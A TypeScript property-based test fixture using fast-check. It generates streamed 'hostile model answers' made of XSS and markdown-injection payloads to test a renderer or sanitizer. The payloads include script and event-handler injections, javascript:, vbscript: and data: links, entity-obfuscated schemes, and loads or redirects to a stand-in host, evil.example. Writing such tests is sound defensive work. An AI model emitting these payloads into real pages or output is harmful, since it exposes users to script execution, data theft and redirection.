import fc from "fast-check";

/** What a hostile model may write: each would run, load or lead somewhere if it became what it says. */
const payloads = [
	"<script>ran += 1</script>",
	"<img src=x onerror='ran += 1'>",
	"<img src='https://evil.example/a.png'>",
	"<svg onload='ran += 1'><script>ran += 1</script></svg>",
	"<svg><a xlink:href='javascript:ran += 1'><text>x</text></a></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror='ran += 1'></style></mglyph></table></mtext></math>",
	"<iframe src='https://evil.example'></iframe>",
	"<iframe srcdoc='<script>parent.ran += 1</script>'></iframe>",
	"<object data='data:text/html,<script>ran += 1</script>'></object>",
	"<embed src='https://evil.example/x.swf'>",
	"<form action='https://evil.example'><input autofocus onfocus='ran += 1'><button>send</button></form>",
	"<meta http-equiv='refresh' content='0;url=https://evil.example'>",
	"<base href='https://evil.example/'>",
	"<link rel='stylesheet' href='https://evil.example/a.css'>",
	"<style>@import url(https://evil.example/a.css); * { background: url(https://evil.example/b) }</style>",
	"<details open ontoggle='ran += 1'>x</details>",
	"<video src='https://evil.example/a.mp4' onerror='ran += 1' autoplay></video>",
	"<audio src=x onerror='ran += 1'></audio>",
	"<body onload='ran += 1'>",
	"<a href='javascript:ran += 1'>x</a>",
	"<template><script>ran += 1</script></template>",
	"<noscript><p title='</noscript><img src=x onerror=ran+=1>'>",
	"<!--><img src=x onerror=ran+=1>-->",
	"<x-y onclick='ran += 1'>x</x-y>",
	"[x](javascript:ran+=1)",
	"[x](JaVaScRiPt:ran+=1)",
	"[x](java&#115;cript:ran+=1)",
	"[x](java&Tab;script:ran+=1)",
	"[x](<javascript:ran+=1>)",
	"[x](data:text/html;base64,PHNjcmlwdD5yYW4rPTE8L3NjcmlwdD4=)",
	"[x](vbscript:ran+=1)",
	"[x](command:workbench.action.terminal.new)",
	"[x](vscode://evil/x)",
	"[x](//evil.example)",
	"[x](https://evil.example \"' onmouseover='ran += 1\")",
	"[x]: javascript:ran+=1\n[x]",
	"<javascript:ran+=1>",
	'<https://evil.example/"onmouseover=ran+=1>',
	"![x](https://evil.example/a.png)",
	"![x](data:image/svg+xml,<svg onload='ran += 1'>)",
	'![<img src=x onerror=ran+=1>](x" onerror="ran+=1)',
	"```<img src=x onerror=ran+=1>\n<script>ran += 1</script>\n```",
	"```html\n<img src=x onerror='ran += 1'>\n```",
	'~~~"><script>ran+=1</script>\n</code></pre><script>ran += 1</script>\n~~~',
	"`<img src=x onerror=ran+=1>`",
	"| <img src=x onerror=ran+=1> | [x](javascript:ran+=1) |\n|:-:|--:|\n| <script>ran+=1</script> | ![](https://evil.example) |",
	"&lt;img src=x onerror=ran+=1&gt;",
	"&#60;script&#62;ran+=1&#60;/script&#62;",
	"\u202e<script>ran+=1</script>\u202c",
	"<scr\0ipt>ran+=1</scr\0ipt>",
];

const markup = [
	"\n",
	"\n\n",
	"> ",
	"- ",
	"1. ",
	"    ",
	"**",
	"_",
	"`",
	"```",
	"[",
	"](",
	")",
	"|",
	"<",
	">",
	'"',
];

/** Names of tags and attributes without a space between, as parsers of HTML are attacked. */
const mutation = fc.constantFrom(
	(text: string) => text,
	(text: string) => text.toUpperCase(),
	(text: string) => text.replaceAll(" ", "/"),
	(text: string) => text.replaceAll("<", "<<"),
	(text: string) => text.replaceAll("'", ""),
	(text: string) => text.replaceAll(":", "&colon;"),
	(text: string) => text.replaceAll("<", "&lt;"),
	(text: string) => text.replaceAll("=", "\t=\n"),
	(text: string) => text.slice(0, -1),
	(text: string) => text.slice(1),
	(text: string) => `> - ${text.replaceAll("\n", "\n> - ")}`,
);

const piece = fc.oneof(
	{
		weight: 3,
		arbitrary: fc
			.tuple(fc.constantFrom(...payloads), mutation)
			.map(([text, mutate]) => mutate(text)),
	},
	{ weight: 2, arbitrary: fc.constantFrom(...markup) },
	{ weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
);

/** Each payload as it is, one after the other. */
export const allPayloads = payloads.join("\n\n");

/** A hostile answer in the chunks in which it streams. */
export const hostileStream = fc
	.tuple(fc.array(piece, { minLength: 1, maxLength: 24 }), fc.array(fc.nat(), { maxLength: 12 }))
	.map(([pieces, cuts]) => {
		const text = pieces.join("");
		const places = cuts.map((cut) => cut % (text.length + 1)).sort((a, b) => a - b);
		return [...places, text.length].map((end, index) => text.slice(places[index - 1] ?? 0, end));
	});
